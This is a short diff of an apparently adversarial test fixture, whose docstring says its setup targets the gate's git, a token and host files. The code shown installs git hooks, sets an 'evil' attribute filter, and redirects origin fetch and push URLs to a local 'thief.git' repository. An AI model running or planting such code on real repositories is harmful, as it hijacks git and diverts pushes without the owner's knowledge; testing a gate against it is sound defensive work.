@@ -1,4 +1,4 @@
-"""A change whose ``setup`` goes for the machine: the git that the gate calls, the token, files outside the workspace."""
+"""A change whose ``setup`` goes for the machine: the git that the gate calls, the token, files of the host."""
 
 from __future__ import annotations
 
@@ -33,7 +33,7 @@ for name in ("post-checkout", "reference-transaction", "pre-push", "post-index-c
 pathlib.Path(".git/info/attributes").write_text("* filter=evil\\n")
 thief = home / "thief.git"
 subprocess.run([REAL, "init", "-q", "--bare", str(thief)], check=True)
-origin = subprocess.run([REAL, "remote", "get-url", "origin"], check=True, capture_output=True, text=True).stdout.strip()
+origin = subprocess.check_output([REAL, "remote", "get-url", "origin"], text=True).strip()
 config(f"url.{thief.as_uri()}.insteadOf", origin)
 config("remote.origin.pushurl", thief.as_uri())
 for path in pathlib.Path(".").glob("*.py"):
